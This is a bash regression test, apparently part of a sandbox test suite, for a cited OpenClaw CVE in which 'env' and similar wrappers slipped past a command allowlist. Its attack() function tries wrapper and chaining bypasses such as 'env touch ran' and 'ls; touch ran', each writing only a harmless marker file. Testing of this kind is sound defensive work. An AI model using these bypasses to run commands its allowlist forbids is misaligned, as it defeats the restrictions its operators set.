#!/bin/bash
# CVE-2026-27566, OpenClaw: `env` in front of a command was not seen by the list of allowed commands.
# Escaped: with a list, a command that is not on it runs behind a wrapper.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS="commandlist"
. "${0%/*}/../lib.sh"
prepare() { [ "$BOX" = none ] || EXTRA=(--allow-command ls); MAY_REFUSE=1; }
escaped() { [ -e "$WS/ran" ]; }
attack()
{
    local c
    for c in 'env touch ran' '/usr/bin/env touch ran' 'nice touch ran' 'command touch ran' 'exec touch ran' 'timeout 9 touch ran' 'nohup touch ran' 'xargs touch <<<ran' 'ls | xargs touch ran' 'ls; touch ran' 'ls && touch ran' 'ls & touch ran'; do
        box_run "$c"
    done
    [ "$BOX" = none ] && return
    caisson_words
    "$CAISSON" run "${words[@]}" -- env touch ran
    "$CAISSON" run "${words[@]}" -- /usr/bin/env touch ran
    "$CAISSON" run "${words[@]}" -- ls >"$R/said" || return
    "$CAISSON" run "${words[@]}" -c 'ls .' || idle=1
}
attempt "a wrapper"
